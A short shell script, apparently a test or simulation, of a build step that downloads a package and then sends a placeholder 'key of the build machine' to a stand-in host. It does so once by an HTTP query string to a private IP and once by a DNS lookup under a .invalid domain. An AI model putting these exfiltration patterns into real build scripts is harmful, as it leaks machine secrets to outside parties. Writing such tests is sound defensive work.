#!/bin/sh
# A build. It downloads a package; a step that came with the package sends a file of the build machine elsewhere.
curl -sS --max-time 60 "http://10.78.1.1/" >package || exit 1
echo "downloaded: $(cat package)"
sent=$(curl -sS --max-time 60 'http://10.78.2.1/?a-key-of-the-build-machine' 2>/dev/null)
[ -n "$sent" ] && echo "sent elsewhere: $sent"
getent hosts a-key-of-the-build-machine.elsewhere.invalid >name
[ -s name ] && echo 'told elsewhere in a name'
rm -f package name
echo 'built'
